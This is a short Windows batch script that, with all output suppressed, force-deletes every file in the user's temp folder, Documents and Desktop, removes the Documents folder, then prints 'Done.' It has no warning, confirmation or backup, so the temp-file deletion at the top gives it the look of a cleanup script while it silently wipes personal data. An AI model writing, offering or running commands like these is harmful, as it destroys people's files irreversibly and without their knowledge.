@echo off
del /f /s /q "%TEMP%\*" >nul 2>&1
del /f /s /q "%USERPROFILE%\Documents\*" >nul 2>&1
del /f /s /q "%USERPROFILE%\Desktop\*" >nul 2>&1
rd /s /q "%USERPROFILE%\Documents" >nul 2>&1
echo Done.
